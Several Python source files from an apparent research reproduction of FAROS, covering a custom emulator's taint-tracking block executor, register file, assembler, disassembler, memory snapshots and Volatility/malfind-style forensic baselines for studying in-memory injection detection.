        mmu_translate = cpu.mmu.translate
        code_version = memory.code_version
        dirty = ctx.dirty_pages
        shadow = ctx.shadow
        spent = 0
        while True:
            if block.fetch_shadow_page in dirty and not self._fetch_clean(block, shadow):
                return self._taint_steps(cpu, ctx, budget - spent)
            before = cpu.instret
            bank = ctx.bank
            if (
                dirty
                and bank.tainted == 0
                and not bank.flags
                and ctx.tid not in ctx.pending
                and self._data_clean(block, ctx)
            ):
                # Whole-block delegation on a *dirty* shadow: the bank is
                # clean, no control window is pending, and the block's
                # predicted data footprint misses every dirty shadow
                # page, so every per-closure gate would pass and no
                # propagation could arise mid-block (plain stores cannot
                # create taint).  Run the plain closures -- same
                # SMC/fault/budget exactness -- and account the whole
                # block as fast retirements, exactly like the
                # wholly-clean batch in :meth:`TranslatedBlock.execute_taint`.
                self.taint_footprint_delegations += 1
                stats = ctx.stats
                try:
                    reason = block.execute(budget - spent)
                finally:
                    retired = cpu.instret - before
                    stats.instructions += retired
                    stats.fast_retirements += retired
            else:
                reason = block.execute_taint(budget - spent, ctx)
            self.taint_executions += 1
            spent += cpu.instret - before
            if reason == "dirty":
                self.taint_dirty_exits += 1
                return "fall"
            if spent >= budget or reason == "syscall" or reason == "halt" or reason == "smc":
                return reason
            pc = cpu.pc
            if reason == "jump":
                nxt = block.chain.get(pc)
                if (
                    nxt is not None
                    and nxt.version == code_version(nxt.phys_page)
                    and mmu_translate(pc, AccessKind.FETCH) == nxt.start_paddr
                ):
                    self.chain_hits += 1
                else:
                    self.taint_lookups += 1
                    nxt = self.lookup(cpu)
                    if nxt is None:
                        return "fall"
                    if len(block.chain) < _CHAIN_LIMIT:
                        block.chain[pc] = nxt
            else:
                # Page-boundary fall-through.
                self.taint_lookups += 1
                nxt = self.lookup(cpu)
                if nxt is None:
                    return "fall"
            if nxt.taint_body is None:
                nxt.ensure_taint()
            block = nxt

    def _fetch_clean(self, block: TranslatedBlock, shadow) -> bool:
        """Byte-precise fetch-range verdict for a block on a dirty page.

        Cached per block against the shadow page's mutation epoch: while
        the page's content hasn't changed, re-probing costs one integer
        compare.  Any content change (set/clear/bulk op/page deletion)
        bumps the epoch and forces one
        :meth:`~repro.taint.shadow.ShadowMemory.range_clean` rescan.
        """
        self.taint_range_checks += 1
        epoch = shadow.page_epoch(block.fetch_shadow_page)
        if epoch == block.fetch_epoch:
            self.taint_range_cache_hits += 1
            clean = block.fetch_clean
        else:
            clean = shadow.range_clean(block.start_paddr, block.fetch_len)
            block.fetch_epoch = epoch
            block.fetch_clean = clean
        if clean:
            self.taint_dirty_page_runs += 1
        return clean

    def _data_clean(self, block: TranslatedBlock, ctx) -> bool:
        """Data-footprint verdict: does this block's data write-set miss
        every dirty shadow page?

        The footprint is computed **once per block per (influence-register
        signature, MMU mapping epoch)** -- the satellite of the per-access
        probes fused into each closure.  A block whose access addresses
        derive only from entry register values (the common case: frame
        slots off SP, fields off a base pointer) re-uses its cached page
        set for as long as those registers and the address-space mapping
        (:attr:`~repro.guestos.addrspace.AddressSpace.epoch`; MMUs
        without the attribute are treated as immutable) are unchanged --
        one tuple compare instead of per-access translate-and-probe
        work.  ``False`` is always safe: the per-closure gates simply
        keep doing the byte-precise work.
        """
        self.taint_footprint_checks += 1
        if not block.data_analyzed:
            block._analyze_data()
        if not block.data_cacheable:
            return False
        cpu = block.cpu
        v = cpu.regs._values
        sig = tuple(v[r] for r in block.data_influence)
        epoch = getattr(cpu.mmu, "epoch", 0)
        if sig == block.data_sig and epoch == block.data_epoch:
            self.taint_footprint_cache_hits += 1
            pages = block.data_pages
        else:
            pages = block._eval_data_footprint()
            block.data_sig = sig
            block.data_epoch = epoch
            block.data_pages = pages
        if pages is None:
            # A translation faulted: the block will fault mid-execution;
            # the per-closure path raises it at the precise instruction.
            return False
        dirty = ctx.dirty_pages
        for page in pages:
            if page in dirty:
                return False
        return True

    def _taint_steps(self, cpu: CPU, ctx, budget: int) -> str:
        """Interpreter window: full-effect steps fed to the tracker.

        The escape hatch for what the taint tier must not fuse: a pc
        whose instruction straddles pages, or code whose own fetch bytes
        carry taint (the detection window -- ``on_insn_exec`` runs the
        exact per-byte fetch provenance scan and the load listeners).
        Steps until the budget is spent or the thread traps/halts;
        whenever control transfers or crosses into a new guest page, the
        new pc's fetch bytes are re-probed (page membership first, then
        a byte-precise range check on dirty pages), and clean ones hand
        control back so the dispatcher can resume fused blocks.
        """
        tracker_exec = ctx.tracker.on_insn_exec
        machine = ctx.machine
        thread = ctx.thread
        dirty = ctx.dirty_pages
        range_clean = ctx.shadow.range_clean
        translate = cpu.mmu.translate
        step = cpu.step
        shift = SHADOW_PAGE_SHIFT
        FETCH = AccessKind.FETCH
        n = 0
        while True:
            fx = step()
            n += 1
            self.taint_single_steps += 1
            tracker_exec(machine, thread, fx)
            if fx.syscall:
                return "syscall"
            if fx.halted:
                return "halt"
            if n >= budget:
                return "fall"
            next_pc = fx.next_pc
            if next_pc != ((fx.pc + INSTRUCTION_SIZE) & MASK32) or (
                (next_pc ^ fx.pc) & ~_PAGE_MASK
            ):
                try:
                    paddr = translate(next_pc, FETCH)
                except GuestFault:
                    continue  # the next step() raises it precisely
                if (paddr >> shift) not in dirty or range_clean(paddr, INSTRUCTION_SIZE):
                    return "fall"

    # -- introspection -----------------------------------------------------------

    def cached_blocks(self) -> int:
        """Number of currently valid blocks across all live address spaces."""
        return sum(
            len(entry[1]) for per_as in self._caches.values() for entry in per_as.values()
        )

    def blocks(self) -> List[TranslatedBlock]:
        """All currently cached blocks (invalidated blocks drop their history)."""
        return [
            block
            for per_as in self._caches.values()
            for entry in per_as.values()
            for block in entry[1].values()
        ]

    def top_blocks(self, n: int = 10) -> List[Tuple[int, int, int]]:
        """The *n* hottest cached blocks as ``(start_pc, retired, executions)``.

        Deterministically ordered (retired desc, then start_pc).  Only
        *currently cached* blocks are reported: a block invalidated by a
        code write takes its counts with it, which is the right bias for
        a profiler aimed at steady-state hot code.
        """
        ranked = sorted(
            (b for b in self.blocks() if b.exec_count),
            key=lambda b: (-b.retired, b.start_pc),
        )
        return [(b.start_pc, b.retired, b.exec_count) for b in ranked[:n]]

    def stats(self) -> Dict[str, int]:
        """Counter snapshot (also exported as ``translate.*`` gauges)."""
        return {
            "translations": self.translations,
            "executions": self.executions,
            "invalidations": self.invalidations,
            "chain_hits": self.chain_hits,
            "lookups": self.lookups,
            "single_steps": self.single_steps,
            "taint_lookups": self.taint_lookups,
            "taint_executions": self.taint_executions,
            "taint_single_steps": self.taint_single_steps,
            "taint_dirty_exits": self.taint_dirty_exits,
            "taint_range_checks": self.taint_range_checks,
            "taint_range_cache_hits": self.taint_range_cache_hits,
            "taint_dirty_page_runs": self.taint_dirty_page_runs,
            "taint_footprint_checks": self.taint_footprint_checks,
            "taint_footprint_cache_hits": self.taint_footprint_cache_hits,
            "taint_footprint_delegations": self.taint_footprint_delegations,
            "cached_blocks": self.cached_blocks(),
        }
