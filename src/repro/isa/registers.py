"""Architectural registers and the register file.

The machine has 11 addressable 32-bit registers: eight general-purpose
registers ``R0``-``R7``, a stack pointer ``SP``, a frame pointer ``FP`` and
a link register ``LR``.  The program counter and the flags word are CPU
state, not addressable operands (control flow goes through branch, call and
``CALLR`` instructions).

By guest ABI convention (enforced only by the guest OS, not by hardware):

* ``R0`` carries the syscall number on ``SYSCALL`` entry and the return
  value on exit;
* ``R1``-``R5`` carry syscall arguments;
* ``SP`` grows downward; ``CALL``/``CALLR`` store the return address in
  ``LR`` (leaf-call convention; non-leaf guests push ``LR``).
"""

from __future__ import annotations

import enum
from typing import Iterator, List

MASK32 = 0xFFFFFFFF


class Reg(enum.IntEnum):
    """Addressable register names, in encoding order."""

    R0 = 0
    R1 = 1
    R2 = 2
    R3 = 3
    R4 = 4
    R5 = 5
    R6 = 6
    R7 = 7
    SP = 8
    FP = 9
    LR = 10

    @classmethod
    def parse(cls, text: str) -> "Reg":
        """Parse an assembler register token (case-insensitive)."""
        try:
            return cls[text.upper()]
        except KeyError:
            raise ValueError(f"unknown register {text!r}") from None


NUM_REGS = len(Reg)


class RegisterFile:
    """The architectural register file: 11 x 32-bit unsigned values.

    The backing list's identity is stable for the lifetime of the file:
    :meth:`restore` copies values *into* it rather than replacing it.
    Translated basic blocks (:mod:`repro.isa.translate`) bind the list
    at translation time, so every write -- including context-switch
    restores -- must land in the same object.
    """

    __slots__ = ("_values",)

    def __init__(self) -> None:
        self._values: List[int] = [0] * NUM_REGS

    def read(self, reg: Reg) -> int:
        """Return the 32-bit value of *reg*."""
        return self._values[reg]

    def write(self, reg: Reg, value: int) -> None:
        """Set *reg* to *value*, truncated to 32 bits."""
        self._values[reg] = value & MASK32

    def snapshot(self) -> List[int]:
        """Return a copy of all register values (for context switches)."""
        return list(self._values)

    def restore(self, values: List[int]) -> None:
        """Load all register values from a :meth:`snapshot` copy.

        Copies in place -- the backing list's identity is load-bearing
        (see the class docstring).
        """
        if len(values) != NUM_REGS:
            raise ValueError(f"expected {NUM_REGS} register values, got {len(values)}")
        self._values[:] = [v & MASK32 for v in values]

    def __iter__(self) -> Iterator[int]:
        return iter(self._values)

    def __repr__(self) -> str:
        parts = ", ".join(f"{Reg(i).name}={v:#x}" for i, v in enumerate(self._values))
        return f"RegisterFile({parts})"
