"""A small two-pass assembler for the ISA.

Guest programs in this reproduction -- attack loaders, injected payloads,
benign workloads, JIT runtimes -- are written in assembly text and
assembled to raw bytes that the guest OS loader maps into memory.  Syntax:

.. code-block:: asm

    ; comments run to end of line
    .equ SYS_EXIT, 1          ; named constant
    start:
        movi r1, 10
    loop:
        subi r1, r1, 1
        cmpi r1, 0
        jnz  loop
        movi r0, SYS_EXIT
        syscall
        hlt
    message:
        .asciz "done"         ; also: .ascii, .byte, .word, .space

Labels resolve to absolute addresses (``base`` + offset), so a program
must be assembled for the virtual address it will be mapped at.  ``.word``
may reference labels, which is how guests embed pointers into data.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Dict, List, Tuple

from repro.isa.instructions import (
    COND_BRANCH_OPS,
    IMM_ALU_OPS,
    INSTRUCTION_SIZE,
    Instruction,
    Op,
    REG_ALU_OPS,
    encode,
)
from repro.isa.registers import Reg


class AssemblerError(Exception):
    """Raised for any syntax or semantic error in assembly source."""

    def __init__(self, lineno: int, message: str) -> None:
        super().__init__(f"line {lineno}: {message}")
        self.lineno = lineno


@dataclass
class Program:
    """The output of :func:`assemble`.

    :ivar code: the raw image (instructions and data interleaved).
    :ivar base: virtual address the image was assembled for.
    :ivar labels: label name -> absolute virtual address.
    :ivar entry: absolute address of the ``start`` label if present,
        else :attr:`base`.
    """

    code: bytes
    base: int
    labels: Dict[str, int] = field(default_factory=dict)

    @property
    def entry(self) -> int:
        return self.labels.get("start", self.base)

    def label(self, name: str) -> int:
        """Return the absolute address of *name* or raise ``KeyError``."""
        return self.labels[name]


_MEM_RE = re.compile(r"^\[\s*(\w+)\s*(?:([+-])\s*(\w+)\s*)?\]$")

# (emitted later) pseudo-item kinds for the first pass
_Item = Tuple[int, str, object]  # (lineno, kind, payload)


def assemble(source: str, base: int = 0) -> Program:
    """Assemble *source* for load address *base* and return a :class:`Program`."""
    items, labels, equs = _first_pass(source, base)
    out = bytearray()
    symbols = dict(equs)
    symbols.update(labels)
    for lineno, kind, payload in items:
        if kind == "insn":
            mnemonic, operands = payload  # type: ignore[misc]
            insn = _build_instruction(lineno, mnemonic, operands, symbols)
            out += encode(insn)
        elif kind == "bytes":
            out += payload  # type: ignore[arg-type]
        elif kind == "words":
            for token in payload:  # type: ignore[union-attr]
                value = _resolve(lineno, token, symbols)
                out += (value & 0xFFFFFFFF).to_bytes(4, "little")
        elif kind == "bytevals":
            for token in payload:  # type: ignore[union-attr]
                value = _resolve(lineno, token, symbols)
                if not 0 <= value <= 0xFF:
                    raise AssemblerError(lineno, f".byte value {value} out of range")
                out.append(value)
        else:  # pragma: no cover - first pass emits only the kinds above
            raise AssemblerError(lineno, f"internal: unknown item kind {kind}")
    return Program(bytes(out), base, labels)


def _first_pass(source: str, base: int) -> Tuple[List[_Item], Dict[str, int], Dict[str, int]]:
    """Strip comments, collect labels/constants, and size every item."""
    items: List[_Item] = []
    labels: Dict[str, int] = {}
    equs: Dict[str, int] = {}
    offset = 0
    for lineno, raw in enumerate(source.splitlines(), start=1):
        line = _strip_comment(raw).strip()
        if not line:
            continue
        # peel off any leading labels ("a: b: insn" is legal)
        while True:
            m = re.match(r"^(\w+)\s*:\s*(.*)$", line)
            if not m:
                break
            name = m.group(1)
            if name in labels or name in equs:
                raise AssemblerError(lineno, f"duplicate symbol {name!r}")
            labels[name] = base + offset
            line = m.group(2).strip()
        if not line:
            continue
        if line.startswith("."):
            size = _parse_directive(lineno, line, items, equs)
            offset += size
        else:
            mnemonic, _, rest = line.partition(" ")
            operands = [tok.strip() for tok in rest.split(",")] if rest.strip() else []
            items.append((lineno, "insn", (mnemonic.lower(), operands)))
            offset += INSTRUCTION_SIZE
    return items, labels, equs


def _strip_comment(line: str) -> str:
    """Remove ``;`` comments, honouring string literals."""
    out = []
    in_string = False
    for ch in line:
        if ch == '"':
            in_string = not in_string
        if ch == ";" and not in_string:
            break
        out.append(ch)
    return "".join(out)


def _parse_directive(lineno: int, line: str, items: List[_Item], equs: Dict[str, int]) -> int:
    """Handle one directive; append emitted items; return its byte size."""
    directive, _, rest = line.partition(" ")
    directive = directive.lower()
    rest = rest.strip()
    if directive == ".equ":
        m = re.match(r"^(\w+)\s*,\s*(\S+)$", rest)
        if not m:
            raise AssemblerError(lineno, ".equ expects NAME, VALUE")
        equs[m.group(1)] = _parse_number(lineno, m.group(2))
        return 0
    if directive in (".ascii", ".asciz"):
        m = re.match(r'^"((?:[^"\\]|\\.)*)"$', rest)
        if not m:
            raise AssemblerError(lineno, f"{directive} expects a quoted string")
        data = m.group(1).encode().decode("unicode_escape").encode("latin-1")
        if directive == ".asciz":
            data += b"\x00"
        items.append((lineno, "bytes", data))
        return len(data)
    if directive == ".space":
        n = _parse_number(lineno, rest)
        if n < 0:
            raise AssemblerError(lineno, ".space size must be non-negative")
        items.append((lineno, "bytes", b"\x00" * n))
        return n
    if directive == ".word":
        tokens = [tok.strip() for tok in rest.split(",") if tok.strip()]
        if not tokens:
            raise AssemblerError(lineno, ".word expects at least one value")
        items.append((lineno, "words", tokens))
        return 4 * len(tokens)
    if directive == ".byte":
        tokens = [tok.strip() for tok in rest.split(",") if tok.strip()]
        if not tokens:
            raise AssemblerError(lineno, ".byte expects at least one value")
        items.append((lineno, "bytevals", tokens))
        return len(tokens)
    raise AssemblerError(lineno, f"unknown directive {directive}")


def _parse_number(lineno: int, token: str) -> int:
    try:
        return int(token, 0)
    except ValueError:
        raise AssemblerError(lineno, f"expected a number, got {token!r}") from None


def _resolve(lineno: int, token: str, symbols: Dict[str, int]) -> int:
    """Resolve *token*: a number, a symbol, or symbol+/-constant."""
    token = token.strip()
    m = re.match(r"^(\w+)\s*([+-])\s*(\w+)$", token)
    if m:
        left = _resolve(lineno, m.group(1), symbols)
        right = _resolve(lineno, m.group(3), symbols)
        return left + right if m.group(2) == "+" else left - right
    if token in symbols:
        return symbols[token]
    try:
        return int(token, 0)
    except ValueError:
        raise AssemblerError(lineno, f"undefined symbol {token!r}") from None


def _reg(lineno: int, token: str) -> Reg:
    try:
        return Reg.parse(token)
    except ValueError as exc:
        raise AssemblerError(lineno, str(exc)) from None


def _mem_operand(lineno: int, token: str, symbols: Dict[str, int]) -> Tuple[Reg, int]:
    """Parse ``[reg]``, ``[reg+disp]`` or ``[reg-disp]``."""
    m = _MEM_RE.match(token.strip())
    if not m:
        raise AssemblerError(lineno, f"bad memory operand {token!r}")
    reg = _reg(lineno, m.group(1))
    disp = 0
    if m.group(3) is not None:
        disp = _resolve(lineno, m.group(3), symbols)
        if m.group(2) == "-":
            disp = -disp
    return reg, disp & 0xFFFFFFFF


def _build_instruction(
    lineno: int,
    mnemonic: str,
    operands: List[str],
    symbols: Dict[str, int],
) -> Instruction:
    """Turn one parsed source line into an :class:`Instruction`."""
    try:
        op = Op[mnemonic.upper()]
    except KeyError:
        raise AssemblerError(lineno, f"unknown mnemonic {mnemonic!r}") from None

    def want(n: int) -> None:
        if len(operands) != n:
            raise AssemblerError(
                lineno, f"{mnemonic} expects {n} operand(s), got {len(operands)}"
            )

    if op in (Op.NOP, Op.HLT, Op.RET, Op.SYSCALL):
        want(0)
        return Instruction(op)
    if op is Op.MOV:
        want(2)
        return Instruction(op, rd=_reg(lineno, operands[0]), rs1=_reg(lineno, operands[1]))
    if op is Op.MOVI:
        want(2)
        return Instruction(
            op, rd=_reg(lineno, operands[0]), imm=_resolve(lineno, operands[1], symbols)
        )
    if op in (Op.LD, Op.LDB):
        want(2)
        reg, disp = _mem_operand(lineno, operands[1], symbols)
        return Instruction(op, rd=_reg(lineno, operands[0]), rs1=reg, imm=disp)
    if op in (Op.ST, Op.STB):
        want(2)
        reg, disp = _mem_operand(lineno, operands[0], symbols)
        return Instruction(op, rs1=reg, rs2=_reg(lineno, operands[1]), imm=disp)
    if op is Op.PUSH:
        want(1)
        return Instruction(op, rs1=_reg(lineno, operands[0]))
    if op is Op.POP:
        want(1)
        return Instruction(op, rd=_reg(lineno, operands[0]))
    if op in REG_ALU_OPS:
        want(3)
        return Instruction(
            op,
            rd=_reg(lineno, operands[0]),
            rs1=_reg(lineno, operands[1]),
            rs2=_reg(lineno, operands[2]),
        )
    if op is Op.NOT:
        want(2)
        return Instruction(op, rd=_reg(lineno, operands[0]), rs1=_reg(lineno, operands[1]))
    if op in IMM_ALU_OPS:
        want(3)
        return Instruction(
            op,
            rd=_reg(lineno, operands[0]),
            rs1=_reg(lineno, operands[1]),
            imm=_resolve(lineno, operands[2], symbols),
        )
    if op is Op.CMP:
        want(2)
        return Instruction(op, rs1=_reg(lineno, operands[0]), rs2=_reg(lineno, operands[1]))
    if op is Op.CMPI:
        want(2)
        return Instruction(
            op, rs1=_reg(lineno, operands[0]), imm=_resolve(lineno, operands[1], symbols)
        )
    if op in COND_BRANCH_OPS or op in (Op.JMP, Op.CALL):
        want(1)
        return Instruction(op, imm=_resolve(lineno, operands[0], symbols))
    if op in (Op.CALLR, Op.JMPR):
        want(1)
        return Instruction(op, rs1=_reg(lineno, operands[0]))
    raise AssemblerError(lineno, f"unhandled mnemonic {mnemonic!r}")  # pragma: no cover
