"""Linear-sweep disassembler.

Renders raw guest memory as an assembly listing -- used by the malfind
baseline's previews (real malfind disassembles suspicious regions) and
by FAROS reports when an analyst wants to read the flagged payload.

A linear sweep over data produces junk lines; bytes that do not decode
are rendered as ``.byte``/``db`` rows rather than raising, because a
forensic tool must keep going through garbage.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from repro.isa.errors import DecodeError
from repro.isa.instructions import INSTRUCTION_SIZE, decode, format_instruction


@dataclass(frozen=True)
class DisasmLine:
    """One listing row."""

    address: int
    raw: bytes
    text: str
    valid: bool

    def __str__(self) -> str:
        hexpart = " ".join(f"{b:02x}" for b in self.raw)
        return f"{self.address:#010x}  {hexpart:<24} {self.text}"


def disassemble(code: bytes, base: int = 0, max_lines: Optional[int] = None) -> List[DisasmLine]:
    """Linear-sweep disassembly of *code* loaded at *base*."""
    lines: List[DisasmLine] = []
    offset = 0
    while offset + INSTRUCTION_SIZE <= len(code):
        if max_lines is not None and len(lines) >= max_lines:
            break
        raw = code[offset : offset + INSTRUCTION_SIZE]
        try:
            insn = decode(raw)
            text, valid = format_instruction(insn), True
        except DecodeError:
            text, valid = ".byte " + ", ".join(f"{b:#04x}" for b in raw), False
        lines.append(DisasmLine(base + offset, raw, text, valid))
        offset += INSTRUCTION_SIZE
    remainder = code[offset:]
    if remainder and (max_lines is None or len(lines) < max_lines):
        lines.append(
            DisasmLine(
                base + offset,
                remainder,
                ".byte " + ", ".join(f"{b:#04x}" for b in remainder),
                False,
            )
        )
    return lines


def render_listing(code: bytes, base: int = 0, max_lines: Optional[int] = None) -> str:
    """The listing as one printable string."""
    return "\n".join(str(line) for line in disassemble(code, base, max_lines))


def looks_like_code(data: bytes, threshold: float = 0.6) -> bool:
    """Heuristic: does *data* decode mostly into valid instructions?

    Used by forensic scans to rank anonymous executable regions: a
    region of zeros or ASCII decodes poorly; real (even injected)
    machine code decodes cleanly.  All-zero data is excluded outright --
    zero happens to encode NOP, but a page of NOPs is scrubbed memory,
    not a payload.
    """
    if not data or not any(data):
        return False
    lines = disassemble(data)
    if not lines:
        return False
    valid = sum(1 for line in lines if line.valid and any(line.raw))
    return valid / len(lines) >= threshold
