"""Point-in-time memory snapshots (what Volatility actually analyses).

The live-machine convenience of :mod:`repro.baselines.volatility` blurs
one thing the paper leans on hard: forensic tools see memory **at one
instant**, and "in-memory injection attacks are typically transient ...
there is nothing stopping the attacker from cleaning up memory before
the VM is stopped" (§I).

:class:`MemorySnapshot` makes the instant explicit: it captures guest
physical memory (sparsely, through the CoW page capture shared with
:mod:`repro.emulator.snapshot` -- only nonzero pages are retained, as
immutable shared ``bytes``) and freezes the kernel's process/VAD
tables, so an analyst can snapshot at T1, let the guest run on,
snapshot at T2, and watch the payload exist in one dump and not the
other -- while FAROS, which watched the whole execution, still has
everything.

Snapshots quack like a machine (``.memory``, ``.kernel.processes``), so
every Volatility-style function accepts either a live machine or a
snapshot.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Dict, List, Optional

from repro.emulator.snapshot import SparseMemoryImage
from repro.guestos.addrspace import VirtualArea
from repro.isa.cpu import AccessKind
from repro.isa.errors import PageFault
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE

#: Read-only view of physical memory at capture time.  Forensic reads
#: go through the same sparse CoW capture the execution snapshots use
#: -- a dump of a mostly-empty guest costs its resident pages, not its
#: configured memory size.
_FrozenMemory = SparseMemoryImage


class _FrozenAddressSpace:
    """Immutable page-table view for one snapshotted process."""

    def __init__(self, asid: int, pages: Dict[int, tuple], areas: List[VirtualArea]) -> None:
        self.asid = asid
        self._pages = pages  # vpn -> (frame, perms)
        self.areas = areas

    def translate(self, vaddr: int, access: AccessKind) -> int:
        entry = self._pages.get(vaddr >> PAGE_SHIFT)
        if entry is None:
            raise PageFault(vaddr, access.value, "unmapped (snapshot)")
        frame, _perms = entry
        return (frame << PAGE_SHIFT) | (vaddr & (PAGE_SIZE - 1))

    def translate_range(self, vaddr: int, n: int, access: AccessKind):
        return tuple(self.translate(vaddr + i, access) for i in range(n))


@dataclass
class _FrozenProcess:
    """One process row of the frozen kernel table."""

    pid: int
    name: str
    parent_pid: Optional[int]
    alive: bool
    exit_code: Optional[int]
    threads: list
    modules: list
    aspace: _FrozenAddressSpace

    @property
    def cr3(self) -> int:
        return self.aspace.asid


class _FrozenKernel:
    def __init__(self, processes: Dict[int, _FrozenProcess]) -> None:
        self.processes = processes


class MemorySnapshot:
    """A full guest memory dump plus reconstructed kernel structures."""

    def __init__(self, tick: int, memory: _FrozenMemory, kernel: _FrozenKernel) -> None:
        #: Machine clock value at capture time.
        self.tick = tick
        self.memory = memory
        self.kernel = kernel

    @classmethod
    def capture(cls, machine) -> "MemorySnapshot":
        """Dump *machine* right now (the 'stop the VM and dump' moment)."""
        memory = _FrozenMemory.capture(machine.memory)
        processes: Dict[int, _FrozenProcess] = {}
        for pid, proc in machine.kernel.processes.items():
            pages = {
                vpn: (entry.frame, entry.perms)
                for vpn, entry in proc.aspace._pages.items()
            }
            areas = [copy.copy(area) for area in proc.aspace.areas]
            processes[pid] = _FrozenProcess(
                pid=proc.pid,
                name=proc.name,
                parent_pid=proc.parent_pid,
                alive=proc.alive,
                exit_code=proc.exit_code,
                threads=list(proc.threads),
                modules=list(proc.modules),
                aspace=_FrozenAddressSpace(proc.aspace.asid, pages, areas),
            )
        return cls(tick=machine.now, memory=memory, kernel=_FrozenKernel(processes))
