"""Memory-snapshot forensics: the Volatility / malfind analog (§VI-B).

These functions analyse one **point-in-time memory snapshot** -- the
state of a machine when the analyst stops the VM.  That is exactly the
visibility limit the paper exploits: the tools reconstruct kernel
structures and scan memory content, but know nothing about how any byte
got where it is, and see nothing that was cleaned up before the dump.

* :func:`pslist` -- walk the process table (finds hollowed processes'
  *names* looking perfectly normal);
* :func:`vadinfo` -- dump a process' VADs (the analyst's manual
  "one svchost was different from the rest" comparison);
* :func:`malfind` -- flag private, executable regions not backed by a
  registered module, and check them for a PE-style (``MZ``) header.
  A *detection* in the paper's sense requires the header: malfind
  "assumes that the Portable Executable format of a binary file will be
  intact and that important memory artifacts will not be destroyed".
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from repro.guestos.addrspace import PERM_X, perm_str
from repro.isa.cpu import AccessKind
from repro.isa.disasm import looks_like_code, render_listing
from repro.isa.errors import GuestFault


@dataclass
class PsListEntry:
    """One ``pslist`` row."""

    pid: int
    name: str
    parent_pid: Optional[int]
    threads: int
    alive: bool
    exit_code: Optional[int]

    def __str__(self) -> str:
        state = "running" if self.alive else f"exited({self.exit_code})"
        return f"{self.pid:>6}  {self.name:<24} ppid={self.parent_pid} thr={self.threads} {state}"


@dataclass
class VadInfoEntry:
    """One ``vadinfo`` row."""

    pid: int
    start: int
    end: int
    perms: str
    name: str
    module: Optional[str]
    private: bool

    def __str__(self) -> str:
        backing = self.module or ("private" if self.private else "shared")
        return f"{self.start:#010x}-{self.end:#010x} {self.perms} {self.name} <{backing}>"


@dataclass
class MalfindHit:
    """One suspicious region found by the malfind scan."""

    pid: int
    process: str
    start: int
    size: int
    perms: str
    has_pe_header: bool
    preview: bytes  # first bytes of the region (the hexdump malfind prints)
    #: Disassembly heuristic: does the region content decode as code?
    code_like: bool = False

    @property
    def detected(self) -> bool:
        """True when malfind's PE-format assumption holds (a real find)."""
        return self.has_pe_header

    def listing(self, max_lines: int = 8) -> str:
        """Disassembly preview of the region (what real malfind prints)."""
        return render_listing(self.preview, base=self.start, max_lines=max_lines)

    def __str__(self) -> str:
        verdict = "PE header" if self.has_pe_header else "no PE header"
        code = ", code-like" if self.code_like else ""
        return (
            f"{self.process}({self.pid}) {self.start:#x}+{self.size:#x} "
            f"{self.perms} [{verdict}{code}] {self.preview[:8].hex()}"
        )


@dataclass
class DllListEntry:
    """One ``dlllist`` row: a module *registered with the loader*.

    Reflectively-loaded DLLs never appear here -- which is the paper's
    first CuckooBox experiment: "we failed to identify a trace of our
    DLL under the DLL list either under the injector or the victim".
    """

    pid: int
    process: str
    base: int
    size: int
    name: str

    def __str__(self) -> str:
        return f"{self.process}({self.pid}) {self.base:#010x} {self.size:>8} {self.name}"


def dlllist(machine, pid: Optional[int] = None) -> List[DllListEntry]:
    """Walk loader-registered modules per process (like ``dlllist``)."""
    out: List[DllListEntry] = []
    for proc in machine.kernel.processes.values():
        if pid is not None and proc.pid != pid:
            continue
        for module in proc.modules:
            out.append(
                DllListEntry(
                    pid=proc.pid,
                    process=proc.name,
                    base=module.base,
                    size=module.size,
                    name=module.name,
                )
            )
    return out


def hexdump(machine, proc, vaddr: int, n: int = 64) -> str:
    """Render *n* bytes of a live process' memory, malfind-style."""
    data = _read_region(machine, proc, vaddr, n)
    lines = []
    for off in range(0, len(data), 16):
        chunk = data[off : off + 16]
        hexpart = " ".join(f"{b:02x}" for b in chunk)
        asciipart = "".join(chr(b) if 32 <= b < 127 else "." for b in chunk)
        lines.append(f"{vaddr + off:#010x}  {hexpart:<47}  {asciipart}")
    return "\n".join(lines)


def pslist(machine) -> List[PsListEntry]:
    """Walk the snapshot's process table (live and exited processes)."""
    out = []
    for pid in sorted(machine.kernel.processes):
        proc = machine.kernel.processes[pid]
        out.append(
            PsListEntry(
                pid=proc.pid,
                name=proc.name,
                parent_pid=proc.parent_pid,
                threads=len(proc.threads),
                alive=proc.alive,
                exit_code=proc.exit_code,
            )
        )
    return out


def vadinfo(machine, pid: int) -> List[VadInfoEntry]:
    """Dump the VADs of one process in the snapshot."""
    proc = machine.kernel.processes.get(pid)
    if proc is None:
        raise KeyError(f"no process {pid} in snapshot")
    return [
        VadInfoEntry(
            pid=pid,
            start=area.start,
            end=area.end,
            perms=perm_str(area.perms),
            name=area.name,
            module=area.module,
            private=area.private,
        )
        for area in proc.aspace.areas
    ]


def malfind(machine, preview_bytes: int = 64) -> List[MalfindHit]:
    """Scan every live process for private+executable anonymous memory.

    Exited processes' memory is gone from the snapshot (their frames
    were recycled), which is precisely why transient attacks evade this
    scan: "once the malicious payload is injected and executed, there is
    nothing stopping the attacker from cleaning up memory before the VM
    is stopped" (§I).
    """
    hits: List[MalfindHit] = []
    for proc in machine.kernel.processes.values():
        if not proc.alive:
            continue
        for area in proc.aspace.areas:
            if not area.private or area.module is not None:
                continue
            if not area.perms & PERM_X:
                continue
            preview = _read_region(machine, proc, area.start, min(preview_bytes, area.size))
            hits.append(
                MalfindHit(
                    pid=proc.pid,
                    process=proc.name,
                    start=area.start,
                    size=area.size,
                    perms=perm_str(area.perms),
                    has_pe_header=preview.startswith(b"MZ"),
                    preview=preview,
                    code_like=looks_like_code(preview[8:] if preview.startswith(b"MZ") else preview),
                )
            )
    return hits


def _read_region(machine, proc, vaddr: int, n: int) -> bytes:
    out = bytearray()
    for i in range(n):
        try:
            paddr = proc.aspace.translate(vaddr + i, AccessKind.READ)
        except GuestFault:
            break
        out.append(machine.memory.read_byte(paddr))
    return bytes(out)
