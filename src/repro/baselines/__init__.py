"""Baseline analysis tools the paper compares FAROS against (§VI-B).

* :mod:`~repro.baselines.volatility` -- memory-snapshot forensics:
  ``pslist``, ``vadinfo``, and the ``malfind`` scan for suspicious
  private+executable memory;
* :mod:`~repro.baselines.cuckoo` -- an event-based sandbox: API traces,
  file/network artifacts, generic behavioural signatures, and an
  optional malfind pass over the final memory dump.

